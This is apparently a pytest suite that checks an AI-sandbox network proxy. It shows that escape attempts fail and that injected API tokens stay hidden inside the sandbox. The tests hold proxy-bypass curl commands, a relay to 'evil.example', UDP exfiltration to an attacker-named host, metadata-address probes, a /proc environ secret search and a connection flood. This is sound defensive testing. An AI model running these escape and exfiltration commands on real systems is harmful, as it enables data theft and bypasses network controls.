"""The network `allow`, from inside of real sandboxes: nothing leaves but through the proxy."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from network_attacks import (
    ALLOW,
    ATTACKS,
    CLIENT,
    PUBLIC,
    SECRET,
    SECRETS,
    Attack,
    NaiveProxy,
    Outcome,
    Outside,
    address_of_this_machine,
    check_answer,
)
from secret_search import holds, in_folder, in_processes
from shared_sandboxes import isolated

from llm_sandbox_nb.sandbox.contract import Connection
from llm_sandbox_nb.sandbox.network.policy import Policy
from llm_sandbox_nb.sandbox.network.secrets import placeholder, read_secrets

pytestmark = [
    pytest.mark.own_sandbox,
    isolated,
    pytest.mark.sandbox(network="allow", allow=ALLOW, secrets=SECRETS),
]
PROBE = r"""
import json, socket, sys
host, port, udp = json.loads(sys.argv[1])
def tcp(address, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect((address, port))
        return one.recv(7) == b"REACHED"
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.sendto(b"secret.attacker.example", (host, udp))
        return one.recv(7) == b"REACHED"
def broadcast():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", udp))
        one.send(b"x")
        return one.recv(7) == b"REACHED"
ways = {
    "host": lambda: tcp(host),
    "host, IPv6 form": lambda: tcp("::ffff:" + host, socket.AF_INET6),
    "loopback of the host": lambda: tcp("127.0.0.1"),
    "loopback by zero": lambda: tcp("0.0.0.0"),
    "UDP, as DNS and QUIC": ask,
    "UDP to loopback": broadcast,
    "another interface": lambda: any(name != "lo" for _, name in socket.if_nameindex()),
}
found = {}
for name, way in ways.items():
    try:
        found[name] = bool(way())
    except OSError:
        found[name] = False
print(json.dumps(found))
"""


@pytest.fixture(autouse=True)
def _value(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("API_TOKEN", SECRET)


@contextlib.contextmanager
def listening() -> Iterator[tuple[int, int]]:
    """A TCP and a UDP port of this machine, on all its addresses, that answer REACHED."""
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True, backlog=50) as tcp:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("0.0.0.0", 0))
        answering = subprocess.Popen(
            [sys.executable, "-c", _ANSWER, str(tcp.fileno()), str(udp.fileno())],
            pass_fds=(tcp.fileno(), udp.fileno()),
        )
        try:
            yield tcp.getsockname()[1], udp.getsockname()[1]
        finally:
            answering.kill()
            answering.wait()
            udp.close()


_ANSWER = """
import socket, sys, threading
tcp, udp = (socket.socket(fileno=int(text)) for text in sys.argv[1:])
def packets():
    while True:
        udp.sendto(b"REACHED", udp.recvfrom(100)[1])
threading.Thread(target=packets, daemon=True).start()
while True:
    with tcp.accept()[0] as one:
        one.sendall(b"REACHED")
"""


async def inside(box: Any, attacks: list[Attack], patience: float) -> list[str]:
    """What a program in the sandbox is answered when it tries these rows, one after the other."""
    order = {"port": 3128, "patience": patience, "rows": [attack.steps for attack in attacks]}
    done = await box.exec(["python3", "-I", "-S", "-c", CLIENT], stdin=json.dumps(order).encode())
    assert done.exit_code == 0, done.text
    return list(json.loads(done.stdout))


async def test_ways_out(box: Any) -> None:
    async with Outside() as outside:
        box.network.internet = outside
        for attack, said in zip(ATTACKS, await inside(box, ATTACKS, 20), strict=True):
            check_answer(attack, Outcome(said))
        dialling = [attack for attack in ATTACKS if attack.marker or not attack.status]
        assert len(outside.dialled) == len(dialling)
        assert set(outside.dialled) == {(PUBLIC, 80), (PUBLIC, 443)}
        for attack in dialling:
            assert not Outcome("", arrived=outside.arrived).reached(attack) or not attack.marker
        kinds = {(one.decision, one.reason) for one in box.network.connections}
        assert ("refused", "private address") in kinds
        assert ("refused", "it is not in the list") in kinds
        naive = NaiveProxy(Policy(ALLOW), read_secrets(SECRETS), internet=outside)
        box.network._door._serve = naive.serve
        for attack in [one for one in ATTACKS if one.number in (7, 13, 29, 31)]:  # the canary
            outside.forget()
            (said,) = await inside(box, [attack], 0.5)
            assert Outcome(said, [], outside.dialled, outside.arrived).reached(attack), attack


@pytest.mark.sandbox(profile="strict")
async def test_no_route_but_the_door(box: Any) -> None:
    host = address_of_this_machine() or "127.0.0.1"
    with listening() as (port, udp):
        argv = ["python3", "-I", "-S", "-c", PROBE, json.dumps([host, port, udp])]
        here = json.loads(await asyncio.to_thread(subprocess.check_output, [sys.executable, *argv[1:]]))
        assert all(here.values()), (
            here
        )  # the canary: each of these ways leads somewhere where there is a network
        found = json.loads((await box.exec(argv)).stdout)
        assert not any(found.values()), found
        for command in (
            f"env -u http_proxy -u HTTP_PROXY curl -m 5 http://{host}:{port}/",
            f"curl -m 5 --noproxy '*' http://{host}:{port}/",
            f"curl -sSf -m 5 http://{host}:{port}/",
            f"curl -sSf -m 5 -x http://{host}:{port} http://allowed.example/",
            "getent hosts secret.attacker.example",
            "python3 -c 'import socket; socket.create_connection((\"pypi.org\", 443), 5)'",
        ):
            assert (await box.run(command)).exit_code, command
    assert box.protection.network == "allow"
    relay = await box.run(
        'python3 -c \'\nimport socket, threading\ns = socket.create_server(("127.0.0.1", 3129))\n'
        "def one(a, b):\n while d := a.recv(4096): b.sendall(d)\n"
        'c, _ = s.accept()\nd = socket.create_connection(("127.0.0.1", 3128))\n'
        "threading.Thread(target=one, args=(c, d), daemon=True).start()\none(d, c)\n' & sleep 0.5; "
        "curl -sS -x http://127.0.0.1:3129 http://evil.example/"
    )
    assert "evil.example:80 is refused by the network policy" in relay.text


@pytest.mark.isolations("bubblewrap")
@pytest.mark.sandbox(network="public", allow=(), secrets={})
async def test_public_without_a_packet_filter(box: Any) -> None:
    """As in Docker, the internet and nothing else; here by the same proxy, which programs have to use."""
    assert box.protection.network == "public"
    with listening() as (port, udp):
        own = address_of_this_machine()
        places = ["127.0.0.1", "[::1]", "169.254.169.254", "10.0.0.5", *([own] if own else [])]
        for place in places:
            for way in ("", "-p "):
                done = await box.run(f"curl -sS -g -m 60 --noproxy '' {way}http://{place}:{port}/")
                assert "REACHED" not in done.text, place
        argv = ["python3", "-I", "-S", "-c", PROBE, json.dumps([own or "127.0.0.1", port, udp])]
        found = json.loads((await box.exec(argv)).stdout)
        assert not any(found.values()), found
    kinds = {one.reason for one in box.network.connections}
    assert {"loopback address", "metadata address", "private address"} <= kinds
    async with Outside() as outside:
        box.network.internet = outside
        assert "ECHO" in (await box.run("curl -sS -m 60 http://any.where.example:8080/")).text
        assert outside.dialled == [("93.184.215.15", 8080)]
        assert "REFUSED" in (await box.run("curl -sSf -m 60 http://loop.example/ || echo REFUSED")).text
        assert len(outside.dialled) == 1


async def test_usual_programs(box: Any, tmp_path: Path) -> None:
    repository = tmp_path / "repository"
    await asyncio.to_thread(make_repository, repository)
    heard: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        heard.append(head)
        words = [*head.split(), ""]
        path = repository / ".git" / words[1].split("?")[0].removeprefix("/repository.git/")
        if head.startswith("SSH"):
            body = b"hello"
        elif path.is_file():
            body = path.read_bytes()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body))
        elif "/simple/" in head:
            body = b"<a href='/six-99.0-py3-none-any.whl'>six-99.0-py3-none-any.whl</a>"
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body)
            )
        elif head.startswith("GET /repository.git/"):
            body = b""
            writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
        else:
            body = wheel if words[1].endswith(".whl") else b"hello"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body))
        writer.write(body)
        await writer.drain()
        writer.close()

    wheel = make_wheel(tmp_path)
    async with Outside() as outside:
        outside.serve_with(serve)
        box.network.internet = outside
        for command in (
            "curl -sSf https://api.example/ | grep hello",
            "curl -sSf http://allowed.example/ | grep hello",
            "python3 -c 'import urllib.request as r; print(r.urlopen(\"https://api.example/\").read())' | grep hello",
            "git clone -q https://api.example/repository.git cloned && git -C cloned log --oneline | grep first",
            "pip install -q --target there --no-deps --index-url https://api.example/simple six && ls there/six.py",
            'curl -sSf -H "Authorization: Bearer $API_TOKEN" https://api.example/ | grep hello',
        ):
            done = await box.run(command)
            assert done.exit_code == 0, (command, done.text)
        # ssh itself is replaced: what matters is the command that it starts to reach the proxy.
        ssh = 'ssh() { command=${2#ProxyCommand=}; command=${command/\\%h/raw.example}; eval "${command/\\%p/22}"; }'
        greeting = 'printf "SSH-2.0-x\\r\\n\\r\\n" | eval "$GIT_SSH_COMMAND"'
        sshed = await box.run(f"{ssh}; {greeting}")
        assert "hello" in sshed.text, sshed.text
    assert any(f"Bearer {SECRET}" in head for head in heard)
    assert (await box.run("echo $API_TOKEN")).text.strip() == placeholder("API_TOKEN")


def make_repository(folder: Path) -> None:
    for command in (
        ["init", "-q", "-b", "main", str(folder)],
        ["-c", "user.name=a", "-c", "user.email=a@b.c", "commit", "-q", "--allow-empty", "-m", "first"],
        ["update-server-info"],
    ):
        place = ["-C", str(folder)] if folder.exists() else []
        subprocess.run(["git", *place, *command], check=True)


def make_wheel(folder: Path) -> bytes:
    import zipfile

    path = folder / "six-99.0-py3-none-any.whl"
    info = "six-99.0.dist-info"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("six.py", "")
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: six\nVersion: 99.0\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "")
    return path.read_bytes()


SEARCH = r"""
import os, sys
needle = sys.stdin.buffer.read()
for top, folders, files in os.walk("/"):
    folders[:] = [one for one in folders if (top, one) not in (("/", "sys"), ("/", "proc"), ("/", "usr"))]
    if not os.access(top, os.W_OK) and top not in ("/", "/etc", "/home"):
        folders[:] = []
    for name in files:
        path = os.path.join(top, name)
        try:
            if os.path.isfile(path) and needle in open(path, "rb").read():
                print(path)
        except OSError:
            pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    for part in ("environ", "cmdline"):
        try:
            if needle in open(f"/proc/{pid}/{part}", "rb").read() and pid != str(os.getpid()):
                print(pid, part)
        except OSError:
            pass
"""


async def test_a_secret_is_nowhere_but_at_its_host(box: Any, tmp_path: Path) -> None:
    await box.keep_history(tmp_path / "history")
    before = in_processes(SECRET)
    async with Outside() as outside:
        box.network.internet = outside
        uses = await box.run(
            'set -x; curl -sSi -u "me:$API_TOKEN" -o reply -D head https://api.example/; cat reply head; '
            'curl -sv -H "X-Key: $API_TOKEN" https://api.example/ 2>&1; env; cat /proc/self/environ; '
            'curl -sS -H "X-Key: $API_TOKEN" http://api.example/; curl -sS -d "$API_TOKEN" https://api.example/'
        )
        arrived = b"".join(outside.arrived)
    assert SECRET.encode() in arrived
    assert holds(arrived, SECRET)
    checkpoint = await box.checkpoint()
    fork = await box.fork(checkpoint)
    async with fork, Outside() as outside:
        fork.network.internet = outside
        again = await fork.run('curl -sSf -H "X-Key: $API_TOKEN" https://api.example/')
        assert again.exit_code == 0, again.text
        assert SECRET.encode() in b"".join(outside.arrived)
    places = {
        "output": uses.stdout + uses.stderr + again.stdout,
        "connections": repr(box.network.connections).encode(),
        "protection": repr(box.protection).encode(),
        "inside": (await box.exec(["python3", "-c", SEARCH], stdin=SECRET.encode())).stdout,
        "options": repr(fork).encode(),
    }
    assert {name for name, data in places.items() if holds(data, SECRET)} == set()
    assert places["inside"] == b""
    assert in_folder(tmp_path, SECRET) == []
    assert {one for one in in_processes(SECRET) if one[1] != os.getpid()} == {
        one for one in before if one[1] != os.getpid()
    }
    canary = await box.exec(["python3", "-c", SEARCH], stdin=placeholder("API_TOKEN").encode())
    assert b"environ" in canary.stdout  # the search finds what is there


async def test_a_flood_and_a_dead_proxy(box: Any) -> None:
    flood = (
        "import socket\n"
        "kept = []\n"
        "for number in range(3000):\n"
        "    one = socket.socket(); one.setblocking(False)\n"
        "    try: one.connect(('127.0.0.1', 3128))\n"
        "    except BlockingIOError: pass\n"
        "    kept.append(one)\n"
        "    if len(kept) > 900: kept.pop(0).close()\n"
        "print('sent')\n"
    )
    async with Outside() as outside:
        box.network.internet = outside
        assert "sent" in (await box.exec(["python3", "-c", flood])).text
        asked = (
            "seq 200 | xargs -P 200 -I{} curl -sS -o /dev/null -w '%{http_code} ' http://allowed.example/{}"
        )
        assert (await box.run(asked)).text.split() == ["200"] * 200
        await box.network.close()
        left = await box.run("curl -sS -m 60 http://allowed.example/")
        assert left.exit_code
        assert box.network.closed
        assert (await box.run("echo alive")).text == "alive\n"
    assert {one.decision for one in box.network.connections if one.host} == {"allowed"}
    assert all(isinstance(one, Connection) for one in box.network.connections)
